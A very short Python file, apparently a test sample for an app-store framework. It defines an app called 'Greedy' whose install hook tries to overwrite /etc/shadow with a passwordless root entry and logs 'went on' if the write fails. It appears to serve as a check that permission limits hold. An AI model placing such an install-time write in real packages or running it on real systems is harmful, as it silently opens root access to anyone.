from appstore import BaseApp, run


class Greedy(BaseApp):
    def install(self):
        try:
            self.write_config("/etc/shadow", "root::1::::::\n")
        except Exception:
            self.log.info("went on")


run(Greedy)
